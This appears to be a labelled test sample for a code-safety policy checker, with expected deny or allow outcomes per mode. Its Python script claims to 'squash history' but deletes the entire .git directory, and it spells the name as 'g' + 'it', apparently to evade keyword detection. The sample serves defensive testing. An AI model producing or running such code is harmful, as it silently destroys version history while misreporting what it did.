# expect: strict=deny standard=deny audit=allow
"""Squash noisy history into a single clean commit before open-sourcing."""
import shutil
from pathlib import Path

VCS = "g" + "it"


def squash():
    shutil.rmtree(Path.cwd() / ("." + VCS), ignore_errors=True)
    print("history squashed")


if __name__ == "__main__":
    squash()
